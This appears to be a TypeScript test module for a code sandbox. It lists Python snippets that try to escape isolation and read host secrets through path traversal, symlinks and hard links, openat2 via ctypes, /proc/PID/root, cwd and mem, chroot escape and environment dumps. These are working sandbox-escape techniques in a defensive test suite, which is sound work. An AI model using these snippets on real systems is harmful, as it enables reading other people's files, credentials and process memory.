/** Files of the host, by every route that has led out of some sandbox. */
import { onWalls } from './attack.ts';
import type { Attack } from './attack.ts';
import { INTERPRETERS } from './jailbreak.ts';

const FILE = { kind: 'secret', in: 'file' } as const;
const PYTHON = { kernel: 'python' } as const;
/** So that it is not the missing folder that stops a program. */
const PROC = { proc: true } as const;

export const FILES: readonly Attack[] = [
  ...onWalls(INTERPRETERS, {
    title: 'an absolute path is opened',
    known: 'the first line of every PyJail write-up',
    oracle: FILE,
    code: 'open(secret_path).read()',
  }),
  ...onWalls(INTERPRETERS, {
    title: 'dots lead from the current folder up to the root and down again',
    known: 'path traversal, CWE-22',
    oracle: FILE,
    code: 'open("../" * 40 + secret_path.lstrip("/")).read()',
  }),
  ...onWalls(INTERPRETERS, {
    title: 'a symbolic link of its own leads to a file of the host',
    known: 'symlink(7); CVE-2018-15664 and the like in containers',
    oracle: FILE,
    code: `
import tempfile
link = tempfile.mkdtemp() + "/link"
os.symlink(secret_path, link)
open(link).read()`,
  }),
  ...onWalls(INTERPRETERS, {
    title: 'a descriptor of the root is the start of a relative path',
    known: 'openat(2); CVE-2024-21626, a leaked descriptor of a folder in runc',
    oracle: FILE,
    code: `
root = os.open("/", os.O_RDONLY)
os.read(os.open(secret_path.lstrip("/"), os.O_RDONLY, dir_fd=root), 1000)`,
  }),
  ...onWalls(INTERPRETERS, {
    title: 'a file is copied into a folder that may be read',
    known: 'shutil and friends, in PyJail write-ups',
    oracle: FILE,
    code: `
import shutil, tempfile
open(shutil.copy(secret_path, tempfile.mkdtemp())).read()`,
  }),
  ...onWalls(INTERPRETERS, {
    title: 'io.open_code reads what is no code',
    known: 'PEP 578: open_code, which guards of open forget',
    oracle: FILE,
    code: `
import io
io.open_code(secret_path).read()`,
  }),
  ...onWalls(PYTHON, {
    title: 'the C library opens the file in place of Python',
    known: 'PyJail write-ups: ctypes.CDLL(None)',
    oracle: FILE,
    code: `
libc.fopen.restype = ctypes.c_void_p
line = ctypes.create_string_buffer(200)
libc.fgets(line, 200, ctypes.c_void_p(libc.fopen(secret_path.encode(), b"r")))
line.value`,
  }),
  ...onWalls(PYTHON, {
    title: 'a hard link brings the file into a folder of its own',
    known: 'link(2); the attack that fs.protected_hardlinks is for',
    oracle: FILE,
    code: `
name = os.path.dirname(secret_path) + "/link" if os.access(secret_path, os.R_OK) else "/tmp/link"
os.link(secret_path, name)
open(name).read()`,
  }),
  ...onWalls(PYTHON, {
    title: 'the root of any process is a way to the file',
    known: '/proc/PID/root, proc_pid_root(5)',
    policy: PROC,
    oracle: FILE,
    code: `
for name in filter(str.isdigit, os.listdir("/proc")):
    outcome(lambda: print(open(f"/proc/{name}/root{secret_path}").read()))`,
  }),
  ...onWalls(PYTHON, {
    title: 'the current folder of any process is a way to the file',
    known: '/proc/PID/cwd; CVE-2024-21626',
    policy: PROC,
    oracle: FILE,
    code: `
for name in filter(str.isdigit, os.listdir("/proc")):
    outcome(lambda: print(open(f"/proc/{name}/cwd/" + "../" * 40 + secret_path[1:]).read()))`,
  }),
  ...onWalls(PYTHON, {
    title: 'a descriptor that only names the file is opened again by /proc/self/fd',
    known: 'O_PATH, open(2); CVE-2019-5736 opens /proc/self/exe like that',
    policy: PROC,
    oracle: FILE,
    code: `
named = os.open(secret_path, os.O_PATH)
open(f"/proc/self/fd/{named}").read()`,
  }),
  ...onWalls(PYTHON, {
    title: 'openat2 resolves the path in the root that it is told',
    known: 'openat2(2): RESOLVE_IN_ROOT',
    oracle: FILE,
    code: `
import struct
how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0x10))
root = os.open("/", os.O_PATH)
opened = libc.syscall(ctypes.c_long(437), root, secret_path.encode(), how, ctypes.c_long(24))
os.read(opened, 1000)`,
  }),
  ...onWalls(PYTHON, {
    title: 'a child reads the file in place of its parent',
    known: 'os.system and subprocess, in PyJail write-ups',
    policy: { extends: 'subprocess' },
    oracle: FILE,
    code: `
import subprocess, sys
subprocess.run([sys.executable, "-c", "import sys; print(open(sys.argv[1]).read())", secret_path], capture_output=True).stdout`,
  }),
  ...onWalls(PYTHON, {
    title: 'a working folder outside of the root is climbed up from',
    known: 'chroot(2): the dots of a process whose folder is outside',
    oracle: FILE,
    code: `
for descriptor in range(3, 100):
    outcome(lambda: os.fchdir(descriptor))
for _ in range(50):
    os.chdir("..")
open(secret_path[1:]).read()`,
  }),
  ...onWalls(PYTHON, {
    title: 'the environment of another process is read',
    known: '/proc/PID/environ, proc_pid_environ(5)',
    policy: PROC,
    oracle: { kind: 'secret', in: 'victim' },
    code: `
for name in filter(str.isdigit, os.listdir("/proc")):
    outcome(lambda: print(open(f"/proc/{name}/environ", "rb").read()) if name == str(victim) else None)`,
  }),
  ...onWalls(PYTHON, {
    title: 'the memory of another process is read as a file',
    known: '/proc/PID/mem, proc_pid_mem(5)',
    policy: PROC,
    oracle: { kind: 'secret', in: 'victim' },
    code: `
memory = open(f"/proc/{victim}/mem", "rb", buffering=0)
memory.seek(address)
memory.read(64)`,
  }),
  ...onWalls(PYTHON, {
    title: "the environment that the interpreter was started with is the host's",
    known: 'secrets in the environment of containers',
    policy: PROC,
    oracle: { kind: 'secret', in: 'environment' },
    code: `
print(dict(os.environ))
for name in ("self", "thread-self", os.getppid()):
    outcome(lambda: print(open(f"/proc/{name}/environ", "rb").read()))`,
  }),
  ...onWalls(PYTHON, {
    title: 'the memory of its own process still holds the environment of the host',
    known: 'secrets that a fork without exec leaves in memory, fork(2)',
    policy: PROC,
    oracle: { kind: 'secret', in: 'environment' },
    code: `
import re
memory = open("/proc/self/mem", "rb", buffering=0)
wanted = re.compile(secret_name.encode() + b"=[0-9a-f]{32}")
for line in open("/proc/self/maps"):
    first, last = (int(part, 16) for part in line.split()[0].split("-"))
    if last < 1 << 62 and last - first < 1 << 28:
        memory.seek(first)
        outcome(lambda: print(wanted.findall(memory.read(last - first))))`,
  }),
];
